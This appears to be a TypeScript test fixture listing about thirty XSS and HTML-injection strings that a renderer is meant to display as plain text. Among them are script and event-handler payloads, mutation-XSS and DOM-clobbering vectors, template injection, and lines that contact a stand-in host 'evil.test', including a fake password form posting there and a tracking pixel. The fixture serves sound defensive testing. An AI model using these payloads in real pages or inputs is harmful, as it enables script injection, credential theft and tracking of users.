/** Texts that would be markup, script, style or a request if anything but text were made of them (IN-02). */

/** Nobody is there: whatever asks it for something has made an element of a text. */
export const HOSTILE_HOST = 'evil.test';
const URL = `https://${HOSTILE_HOST}/x`;

export const MARKUP_CORPUS: readonly string[] = [
  `<script>window.markupRan = true</script>`,
  `<script src="${URL}.js"></script>`,
  `<img src=x onerror="window.markupRan = true">`,
  `<img src="${URL}.gif?who=patient" width="1" height="1">`,
  `<svg onload="window.markupRan = true"><style>@import "${URL}.css";</style></svg>`,
  `<svg><style><img src=x onerror=window.markupRan=true></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.markupRan=true&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=window.markupRan=true>">`,
  `<template><script>window.markupRan = true</script></template>`,
  `<iframe src="javascript:parent.markupRan = true"></iframe>`,
  `<iframe srcdoc="<script>parent.markupRan = true</script>"></iframe>`,
  `<a href="javascript:window.markupRan=true">Test results</a>`,
  `<a href="data:text/html,<script>window.markupRan=true</script>">Test results</a>`,
  `[Test results](javascript:window.markupRan=true)`,
  `javascript:window.markupRan=true//`,
  `<object data="${URL}"></object><embed src="${URL}">`,
  `<link rel="stylesheet" href="${URL}.css"><link rel="prefetch" href="${URL}">`,
  `<style>* { background: url(${URL}.png) }</style>`,
  `<p style="background:url(${URL}.png);position:fixed;inset:0">You are signed out</p>`,
  `<meta http-equiv="refresh" content="0;url=${URL}">`,
  `<base href="${URL}/">`,
  `<form action="${URL}"><input name="password" type="password"><button>Sign in</button></form>`,
  `<form id="location"></form><img name="body"><a id="cookie"></a><input id="getElementById">`,
  `<video src="${URL}.mp4" autoplay onerror="window.markupRan=true"></video>`,
  `<details open ontoggle="window.markupRan=true"><summary>More</summary></details>`,
  `<x-element></x-element><ds-button>Pay now</ds-button>`,
  `\${window.markupRan = true} {{constructor.constructor('window.markupRan = true')()}}`,
  `--><!-- <?lit$123$?> <!--?lit$0000$-->`,
  `"><svg/onload=window.markupRan=true>`,
  `&lt;img src=x onerror=window.markupRan=true&gt; &#60;script&#62;`,
  `\u202Egnp.tcefni\u202C <b>bold</b>`,
];
